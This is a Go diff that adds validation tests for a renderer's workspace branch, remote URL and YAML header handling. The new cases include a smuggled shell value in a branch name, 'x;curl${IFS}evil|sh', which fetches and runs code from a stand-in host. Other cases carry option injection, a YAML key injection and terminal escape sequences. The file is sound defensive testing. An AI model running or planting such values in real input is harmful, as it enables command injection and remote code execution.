@@ -194,7 +194,11 @@ func TestRenderRefuses(t *testing.T) {
 		{"bad timeout", func(_ *Input, o *Options) { o.ProbeTimeout = "1h" }, "--probe-timeout"},
 		{"short commit", func(in *Input, _ *Options) { in.Workspace.Commit = "0123abc" }, "workspace commit"},
 		{"no remote", func(in *Input, _ *Options) { in.Workspace.URL = "" }, "workspace remote"},
-		{"newline in branch", func(in *Input, _ *Options) { in.Workspace.Branch = "a\nb" }, "workspace remote"},
+		{"newline in branch", func(in *Input, _ *Options) { in.Workspace.Branch = "a\nb" }, "workspace branch"},
+		{"option as branch", func(in *Input, _ *Options) { in.Workspace.Branch = "-f" }, "workspace branch"},
+		{"shell in branch", func(in *Input, _ *Options) { in.Workspace.Branch = "x;curl${IFS}evil|sh" }, "workspace branch"},
+		{"dots in branch", func(in *Input, _ *Options) { in.Workspace.Branch = "a..b" }, "workspace branch"},
+		{"control in URL", func(in *Input, _ *Options) { in.Workspace.URL = "https://a/\x1b[2J" }, "workspace remote"},
 		{"named user", func(in *Input, _ *Options) { in.ImageUser = "node" }, "image user"},
 		{"negative uid", func(_ *Input, o *Options) { o.RunAsUser = ptr(int64(-1)) }, "--run-as-user"},
 		{"four resolvers", func(in *Input, _ *Options) { in.Policy = four }, "readiness.dns"},
@@ -232,5 +236,17 @@ func TestDefaultName(t *testing.T) {
 		if err := checkLabel("claim", ClaimName(d)); err != nil {
 			t.Errorf("%q: %v", d, err)
 		}
+	}
+}
+
+// TestYAMLHeaderStaysComment: no header text can end its comment line
+// and become YAML, nor reach a terminal as a control sequence.
+func TestYAMLHeaderStaysComment(t *testing.T) {
+	var b bytes.Buffer
+	if err := YAML(&b, []string{"a\nkind: Secret\rb\x1b[2J\u2028c"}, nil); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := b.String(), "# a?kind: Secret?b?[2J?c\n"; got != want {
+		t.Errorf("header = %q, want %q", got, want)
 	}
 }
